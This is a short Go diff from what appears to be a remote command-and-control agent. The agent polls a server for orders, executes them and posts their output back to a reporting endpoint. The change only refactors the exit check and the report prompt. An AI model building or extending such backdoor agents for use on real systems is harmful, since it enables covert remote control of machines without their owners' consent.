@@ -120,7 +120,7 @@ func (a *agent) poll(ctx context.Context, interval, idleAfter, idleInterval time
 		case order != "":
 			failed, idle = 0, false
 			fmt.Println("order", order)
-			if order == "exit" {
+			if order == exitOrder {
 				return a.report(order, "[+] Exiting... (bye!)\n")
 			}
 			if err := a.carryOut(order); err != nil {
@@ -165,7 +165,7 @@ func (a *agent) hello() (string, error) {
 }
 
 func (a *agent) report(order, output string) error {
-	_, err := a.post("/api/"+a.id+"/report", url.Values{"output": {"$ " + order + "\n" + output}})
+	_, err := a.post("/api/"+a.id+"/report", url.Values{"output": {prompt(order) + output}})
 	return err
 }
 
